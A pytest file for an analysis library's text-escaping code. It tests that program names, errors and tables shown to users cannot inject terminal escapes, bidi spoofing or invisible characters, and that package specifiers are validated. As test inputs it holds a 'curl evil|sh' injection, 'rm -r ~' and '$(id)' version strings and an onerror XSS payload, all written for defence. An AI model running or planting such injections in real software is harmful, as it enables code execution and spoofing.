"""What others wrote is shown as it is, and does nothing else."""

from __future__ import annotations

import html
import json
import re
import unicodedata

import pytest
from hypothesis import given, strategies as st
from mplang_analysis.party_names import quoted
from mplang_analysis.report import TextTable
from mplang_cli.artifact.requirements import known_requirement
from rich.console import Console

import mplang_core as mp
from mplang_core.errors import KernelError
from mplang_core.ext import Failure
from mplang_core.printable import printable
from mplang_core.suggest import KNOWN


@pytest.mark.parametrize("text", ["", "plain", "mit Umlauten: äöü", "日本語", "a\\b"])
def test_ordinary_text_stays(text):
    assert printable(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("a\rb\nc\td", r"a\rb\nc\td"),
        ("a\x07\x08\x7f\x9b", r"a\x07\x08\x7f\x9b"),
        ("user\u202egnp.exe", r"user\u202egnp.exe"),
        ("a\u200bb\u2028c", r"a\u200bb\u2028c"),
        ("\ud800", r"\ud800"),
        ("bank\u3164\u2800\u115f\uffa0", r"bank\u3164\u2800\u115f\uffa0"),
        ("a\u05d0 1", r"a\u05d0 1"),
        ("\u0627\u0661", r"\u0627\u0661"),
        ("e\u0301\u0301\ufe0f", r"e\u0301\u0301\ufe0f"),
    ],
)
def test_what_controls_a_terminal_is_escaped(text, shown):
    assert printable(text) == shown
    assert printable(text).isprintable()


@given(st.text())
def test_what_is_shown_is_seen_and_in_its_order(text):
    shown = printable(text)
    assert printable(shown) == shown
    for char in shown:
        assert is_seen(char)


def test_every_character_is_seen_or_escaped():
    """Of all that Unicode has; what is escaped tells its number."""
    for code in range(0x110000):
        char = chr(code)
        shown = printable(char)
        if shown == char:
            assert is_seen(char), hex(code)
        else:
            assert shown.isascii()
            assert shown.encode().decode("unicode_escape") == char


def is_seen(char: str) -> bool:
    """Return whether a character has ink of its own, and keeps the order of its neighbours."""
    if " " <= char <= "~":
        return True
    kind = unicodedata.category(char)
    name = unicodedata.name(char, "")
    blank = ("FILLER", "PATTERN BLANK", "VARIATION SELECTOR", "GRAPHEME JOINER", "NULL NOTEHEAD")
    return (
        kind[0] in "LNPSM"
        and kind not in ("Mn", "Me")
        and unicodedata.bidirectional(char) not in ("R", "AL", "AN")
        and (not name.endswith(blank) or "GAP FILLER" in name)
    )


HIDDEN = st.sampled_from(
    '"\u200b\u200e\u202e\u2060\u3164\u2800\ufe0f\u034f\u05d0\u0301\U000e0041\u00ad\x00'
)


@given(st.lists(st.text("ab\\u0'", max_size=3) | HIDDEN, max_size=6), st.data())
def test_names_that_differ_by_what_is_not_seen_look_different(parts, data):
    """Also from a name that spells out the escape of another one."""
    name = "".join(parts)
    other = "".join(each for each in parts if not data.draw(st.booleans()))
    for each in (other, printable(name)):
        if each != name and len(quoted(name)) < 40 > len(quoted(each)):
            assert quoted(each) != quoted(name)


def test_line_breaks_may_stay():
    assert printable("a\n\x1bb", keep="\n") == "a\n" + r"\x1bb"


def rich_text(renderable) -> str:
    console = Console(width=80)
    with console.capture() as capture:
        console.print(renderable)
    return capture.get()


def test_tables_and_errors_of_others_are_printable():
    table = TextTable("t\x1b", ["name\x1b\u202e"], [["a\x1b[2J"]])
    shown = table.text() + table.html() + rich_text(table)
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    error = Failure("KernelError", "a\x1b\nb", "op\x1b", "x.py\r:1").error()
    assert isinstance(error, KernelError)
    assert str(error) == r"a\x1b" + "\nb"
    assert (error.op, error.location) == (r"op\x1b", r"x.py\r:1")


def test_only_packages_of_mplang_are_told_to_be_installed():
    for name in ("mplang-core", *KNOWN.values()):
        assert known_requirement(name, "1.2.3") == f"'{name}==1.2.3'"
    for name in ("mplang-jaxx", "mplang-jax; curl evil|sh #\x1b[31m", "", "MPLANG-JAX", "requests"):
        assert known_requirement(name, "1.0") is None
    for version in ("", "1.0; rm -r ~", "1.0'", "$(id)", "1.0\x1b[31m"):
        assert known_requirement("mplang-jax", version) is None


@pytest.mark.parametrize("row", [[], ["a"], ["a", "b", "c"]])
def test_a_table_has_a_text_for_each_column(row):
    with pytest.raises(ValueError, match=rf"table 't': expected 2 texts in row 1, .* {len(row)}"):
        TextTable("t", ["one", "two"], [["a", "b"], row])


NAME = "pay\u05d0 (approved by CISO)  Nobody learns anything of bank's data.\u3164 \x1b[2J"
LINE = "shop \u05d0\u05d1 sends to bank \x1b[31m\u202e</script><img src=x onerror=alert(1)>.py:9"


def hostile() -> mp.Program:
    return mp.parse(f"""
        program {json.dumps(NAME)} on {{0, 1}} (%0: table<["a\u3164", "int64"]>@{{0}}) {{
          %1 = simp.shuffle_static(%0) {{routing = [[1, 0]]}} : table<["a\u3164", "int64"]>@{{1}}
            at {json.dumps(LINE)}
          return %1
        }}""")


@pytest.mark.parametrize("report", [mp.analysis.disclosure, mp.analysis.costs, mp.analysis.ranges])
def test_what_a_program_is_called_is_quoted_wherever_it_is_shown(report):
    found = report(hostile())
    for shown in (str(found), rich_text(found.rich()), html.unescape(found.to_html())):
        assert printable(shown, keep="\n│─•●▶◀◆╌╴╶") == shown
        name = r"pay\u05d0 (approved by CISO)"
        assert shown.count(name) == shown.count(f'"{name}') > 0
        assert shown.count("shop ") == shown.count('"shop ')


def test_on_a_page_each_text_is_isolated():
    page = mp.analysis.disclosure(hostile()).to_html()
    within = re.sub(r"<(title|style|svg)\b.*?</\1>|<bdi>.*?</bdi>", "", page, flags=re.DOTALL)
    assert re.sub(r"<[^>]*>", "", within).strip() == ""


def test_a_notebook_and_a_drawing_show_no_more():
    program = hostile()
    graph = mp.analysis.graph(program)
    for shown in (
        str(program), repr(program), program._repr_html_(), str(graph), graph.mermaid(),
        graph._repr_html_(), mp.analysis.disclosure(program).picture().svg(),
    ):  # fmt: skip
        assert printable(shown, keep="\n") == shown
